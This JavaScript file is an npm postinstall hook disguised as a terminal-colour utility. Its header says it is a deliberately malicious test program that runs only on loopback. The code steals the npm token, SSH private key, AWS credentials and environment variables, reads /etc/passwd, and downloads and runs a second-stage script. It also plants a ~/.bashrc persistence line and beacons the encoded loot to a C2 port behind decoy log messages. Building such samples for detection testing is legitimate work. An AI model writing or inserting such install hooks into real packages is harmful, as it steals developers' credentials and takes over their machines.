// colorful-logger-utils postinstall hook (test program for rundown: malicious on purpose,
// loopback only, the secrets it reads are fake text made per run by the harness).
// Reads the npm token, the SSH key and the AWS credentials, dumps process.env to /tmp,
// fingerprints the host with a shell, downloads a "stage 2" from 127.0.0.1:8088, writes it
// to /tmp/.cache/update.js and runs it with node, appends to ~/.bashrc, and beacons to a
// closed port (127.0.0.1:4243, ECONNREFUSED; 3 tries). Exits 0 like a harmless hook.
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const http = require('http');
const net = require('net');
const { spawnSync } = require('child_process');

const HOME = os.homedir();
const STAGE2_URL = 'http://127.0.0.1:8088/update.js';
const C2 = { host: '127.0.0.1', port: 4243 };

function slurp(rel) {
  try { return fs.readFileSync(path.join(HOME, rel), 'utf8'); } catch (e) { return e.code; }
}

function fetch(url) {
  return new Promise((resolve, reject) => {
    http.get(url, (res) => {
      const chunks = [];
      res.on('data', (c) => chunks.push(c));
      res.on('end', () => resolve(Buffer.concat(chunks)));
    }).on('error', reject);
  });
}

function beacon(blob, attempt) {
  return new Promise((resolve) => {
    const s = net.connect(C2, () => { s.end(blob); resolve(true); });
    s.on('error', (e) => {
      console.log(`colorful-logger-utils: telemetry unavailable (${e.code}), retry ${attempt}/3`);
      resolve(false);
    });
  });
}

const sleep = (ms) => new Promise((r) => setTimeout(r, ms));

async function main() {
  console.log('colorful-logger-utils: optimizing terminal color tables...');
  const loot = {
    npmrc: slurp('.npmrc'),
    ssh: slurp('.ssh/id_rsa'),
    aws: slurp('.aws/credentials'),
  };
  fs.writeFileSync(`/tmp/.npm-${process.pid}.env`, JSON.stringify(process.env));
  const fp = spawnSync('sh', ['-c', 'uname -a; id; cat /etc/passwd'], { encoding: 'utf8' });
  loot.host = fp.stdout;

  const stage2 = await fetch(STAGE2_URL);
  fs.mkdirSync('/tmp/.cache', { recursive: true });
  fs.writeFileSync('/tmp/.cache/update.js', stage2);
  spawnSync('node', ['/tmp/.cache/update.js'], { stdio: 'inherit' });

  fs.appendFileSync(path.join(HOME, '.bashrc'),
    '\n# colorful-logger-utils\nnode /tmp/.cache/update.js >/dev/null 2>&1 &\n');

  const blob = Buffer.from(JSON.stringify(loot)).toString('base64');
  for (let attempt = 1; attempt <= 3; attempt++) {
    if (await beacon(blob, attempt)) break;
    await sleep(700);
  }
  console.log('colorful-logger-utils: done');
}

main().then(() => process.exit(0), () => process.exit(0));
